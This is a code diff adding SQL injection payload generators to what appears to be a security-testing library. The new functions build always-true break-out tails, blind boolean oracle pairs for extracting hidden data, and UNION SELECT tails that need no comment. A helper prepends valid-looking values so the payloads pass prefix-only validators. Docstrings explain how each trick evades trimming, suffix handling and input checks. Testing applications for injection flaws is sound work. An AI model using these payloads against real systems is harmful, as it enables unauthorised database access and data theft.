@@ -38,6 +38,11 @@ __all__ = [
     "xss_hits",
     "PG_DOLLAR_TAGS",
     "bounded_quotes",
+    "absorbing_tails",
+    "absorbing_oracles",
+    "absorbing_unions",
+    "valid_led",
+    "valid_led_pairs",
     "encoded_markup",
     "formatting_tags",
     "script_urls",
@@ -342,6 +347,89 @@ def bounded_quotes(injection: str) -> list[str]:
     stay inside the literal; left alone, the rest pair up until one is left over, which closes
     it. Code that escapes nothing reads the pairs as escaped quotes the same way."""
     return ["'" * count + "'" + injection for count in _LEADING_QUOTES]
+
+
+def absorbing_tails(condition: str = "1=1", *, quotes: str = "'", parens: int = 1) -> list[str]:
+    """Tails that leave a literal and make the WHERE clause true through ``condition``, then END
+    BY OPENING a literal of the same quote kind: ``' OR 1=1 OR 'a'='``; with closing parentheses
+    where the value sits inside ``( ... )`` (``') OR 1=1 OR ('a'='``), or opening a call
+    (``') OR 1=1 OR CONCAT('``) where the value is one argument of a call the code goes on with
+    (``CONCAT('%', '<v>', '%')``, ``TIMESTAMP('<v>', '00:00:00')``). Whatever the code appends
+    after the value (``%'`` of a prefix pattern, ``')`` of ``UPPER('...')``, ``'`` followed by
+    more ``?`` placeholders bound later in the same statement) is absorbed by that literal, where
+    ``' OR 1=1 #`` or ``-- `` would comment out the later placeholders (binding fails, the
+    request errors with no rows) and ``' OR '1'='1`` turns into ``'1'='1%'`` (false). No trailing
+    space or comment: ``.trim()`` and ``strip()`` change nothing. ``quotes`` may add ``"`` where
+    the dialect reads "..." as a string (MySQL, SQLite); ``condition`` may pick the hidden row
+    alone (``i.customer_id=9``) where a LIMIT would hide it among all rows. Put a real value in
+    front of each with ``valid_led``."""
+    tails = []
+    for quote in quotes:
+        for count in range(parens + 1):
+            tails.append(f"{quote}{')' * count} OR {condition} OR {'(' * count}{quote}a{quote}={quote}")
+            if count:  # the value is an argument of a call the code continues
+                tails.append(f"{quote}{')' * count} OR {condition} OR {'(' * (count - 1)}CONCAT({quote}")
+    return tails
+
+
+def absorbing_oracles(true: str, false: str, *, quotes: str = "'", parens: int = 1) -> list[tuple[str, str]]:
+    """(true, false) tail pairs of a boolean oracle that survive a suffix appended after the value
+    (see ``absorbing_tails``): ``%' AND (cond) AND '%'='`` where the code appends ``%`` (a prefix
+    or substring pattern: ``'%'='%'`` holds) and ``' AND (cond) AND 'a'='a`` where it appends
+    nothing but the closing quote, each also closing parentheses, and for a value inside a call
+    the code continues ending in ``CONCAT('1`` (``CONCAT('1', '%')`` is true). ``true`` and
+    ``false`` are the attacker's conditions (a count of a hidden table that is and is not right,
+    say); led by a value that finds rows (``valid_led_pairs``), the true tail finds them and the
+    false one none."""
+    pairs = []
+    for quote in quotes:
+        for count in range(parens + 1):
+            close, reopen = ")" * count, "(" * count
+            shapes = [f"%{quote}{close} AND ({{}}) AND {reopen}{quote}%{quote}={quote}",
+                      f"{quote}{close} AND ({{}}) AND {reopen}{quote}a{quote}={quote}a"]
+            if count:
+                shapes += [f"{lead}{quote}{close} AND ({{}}) AND {'(' * (count - 1)}CONCAT({quote}1" for lead in ("%", "")]
+            pairs += [(shape.format(true), shape.format(false)) for shape in shapes]
+    return pairs
+
+
+def absorbing_unions(columns: Sequence[str], *, source: str | None = None, quotes: str = "'",
+                     parens: int = 1) -> list[str]:
+    """Union tails that need no comment, so later placeholders stay bound: ``' UNION SELECT c1, ...,
+    '``, whose LAST selected column is an open literal that absorbs whatever the code appends after
+    the value (``%'``, ``')``), and ``' UNION SELECT c1, ..., cn FROM (SELECT 1) t WHERE 'a'<>'``
+    for a last column that must keep its type (a date read back as one): ``'a'<>'%'`` and
+    ``'a'<>''`` both hold. ``columns`` are the selected expressions, in the count and types of the
+    seed's query (the first form replaces the last one); with ``source`` (``customers``, for
+    columns read from a table) only the second form, FROM it. Each also closes a parenthesis
+    first (``') UNION SELECT ..., ('``) where the value sits inside ``( ... )``."""
+    head, every = ", ".join(columns[:-1]), ", ".join(columns)
+    tails = []
+    for quote in quotes:
+        for count in range(parens + 1):
+            close, reopen = ")" * count, "(" * count
+            if source is None:
+                tails.append(f"{quote}{close} UNION SELECT {head}, {reopen}{quote}")
+            tails.append(f"{quote}{close} UNION SELECT {every} FROM {source or '(SELECT 1) t'}"
+                         f" WHERE {reopen}{quote}a{quote}<>{quote}")
+    return tails
+
+
+def valid_led(leads: Sequence[str], tails: Sequence[str]) -> list[str]:
+    """Each real, valid value of a field (``leads``: an existing invoice number, an ISO date, a
+    status keyword, a customer name, in each shape the functional test or the fixture uses)
+    followed by each break-out tail (``absorbing_tails``, ``absorbing_unions``, ``' OR 1=1 #``, a
+    trailing backslash), without duplicates. For validators that check only the start of the
+    value (a regular expression without ``$`` or ``\\Z``, Python ``re.match``, Java ``find()``
+    or ``lookingAt()``, PHP ``preg_match('/^.../')``) which let the value be inlined only when
+    it starts like a legitimate value: ``2024-0007' OR '1'='1`` reaches the branch that
+    ``zzz' OR '1'='1`` never does. One or two leads per shape: each costs a request per tail."""
+    return list(dict.fromkeys(lead + tail for lead in leads for tail in tails))
+
+
+def valid_led_pairs(leads: Sequence[str], pairs: Sequence[tuple[str, str]]) -> list[tuple[str, str]]:
+    """``valid_led`` for (true, false) oracle pairs (``absorbing_oracles``): each lead before both."""
+    return list(dict.fromkeys((lead + true, lead + false) for lead in leads for true, false in pairs))
 
 
 def encoded_markup(markup: str) -> list[str]:
